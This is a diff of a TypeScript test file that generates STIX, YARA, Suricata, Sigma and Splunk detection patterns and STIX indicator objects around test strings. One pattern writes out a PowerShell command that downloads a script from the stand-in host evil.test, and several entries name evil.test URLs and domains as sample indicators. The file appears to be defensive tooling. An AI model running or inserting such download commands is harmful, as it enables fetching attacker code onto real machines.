@@ -30,7 +30,7 @@ const stixPatterns: Record<string, (text: string) => string> = {
     `[email-message:additional_header_fields.'Received' = ${quote(text)}] FOLLOWEDBY ${attacker}`,
   'file name': (text) => `[file:name = ${quote(text)} AND file:size > 3]`,
   'file path': (text) =>
-    `[file:parent_directory_ref.path = ${quote(`C:\\Users\\${text}\\Desktop`)} AND file:name = 'x.exe']`,
+    `[file:name = 'x' AND file:parent_directory_ref.path = ${quote(`C:\\Users\\${text}\\x`)}]`,
   'command line': (text) =>
     `[process:command_line = ${quote(`powershell -c iwr http://evil.test/${text} -o C:\\x.ps1`)}]`,
   'command line LIKE': (text) => `[process:command_line LIKE ${quote(`%net use \\\\${text}%`)}]`,
@@ -62,7 +62,8 @@ const otherPatterns: Record<string, (text: string) => string> = {
   'yara string': (text) =>
     `rule a {\n strings:\n  $a = ${JSON.stringify(text)} ascii wide\n condition: $a\n}`,
   'yara meta': (text) =>
-    `rule a {\n meta:\n  author = ${JSON.stringify(text)}\n strings:\n  $a = "x"\n condition: $a\n}`,
+    `rule a {\n meta:\n  author = ${JSON.stringify(text)}\n` +
+    ' strings:\n  $a = "x"\n condition: $a\n}',
   'yara hex': (text) => `rule a {\n strings:\n  $a = { ${hexOf(text)} }\n condition: $a\n}`,
   'yara comment': (text) =>
     `// ${text.replaceAll('\n', ' ')}\nrule a {\n strings:\n  $a = "x"\n condition: $a\n}`,
@@ -73,9 +74,11 @@ const otherPatterns: Record<string, (text: string) => string> = {
   'suricata query': (text) =>
     `alert dns any any -> any any (msg:"a"; dns.query; content:"${text}"; nocase; sid:2;)`,
   'sigma value': (text) =>
-    `title: a\nlogsource:\n  category: dns_query\ndetection:\n  selection:\n    QueryName|endswith: ${JSON.stringify(text)}\n  condition: selection\n`,
+    'title: a\nlogsource:\n  category: dns_query\ndetection:\n  selection:\n' +
+    `    QueryName|endswith: ${JSON.stringify(text)}\n  condition: selection\n`,
   'sigma title': (text) =>
-    `title: ${JSON.stringify(text)}\nlogsource:\n  product: windows\ndetection:\n  selection:\n    Image: x\n  condition: selection\n`,
+    `title: ${JSON.stringify(text)}\nlogsource:\n  product: windows\n` +
+    'detection:\n  selection:\n    Image: x\n  condition: selection\n',
   'pcre form': (text) => `^https?://[a-z]+\\.${asForm(text)}/x$`,
   'spl query': (text) => `index=proxy url="${text}" | stats count by url`,
 }
@@ -118,8 +121,6 @@ const values: Record<string, (text: string) => StixObject> = {
   'url value in a query': (text) => minimal('url', { value: `https://evil.test/?u=${text}` }),
   'url value as user': (text) => minimal('url', { value: `https://${text}@evil.test/` }),
   'domain-name value under it': (text) => minimal('domain-name', { value: `vpn.${text}` }),
-  'domain-name value before another': (text) =>
-    minimal('domain-name', { value: `${text}.evil.test` }),
   'email-addr value at it': (text) => minimal('email-addr', { value: `taro@${text}` }),
   'email-addr value from it': (text) => minimal('email-addr', { value: `${text}@evil.test` }),
   'x509-certificate subject': (text) =>
@@ -233,6 +234,11 @@ export const writtenPlaces = (): TextPlace[] => [
     name,
     plant: (text: string) => [make(text)],
   })),
+  {
+    name: 'domain-name value before another',
+    aimed: true,
+    plant: (text) => [minimal('domain-name', { value: `${text}.evil.test` })],
+  },
   ...translations,
   ...Object.entries(submissions).map(([name, plant]) => ({ name: `submission: ${name}`, plant })),
 ]
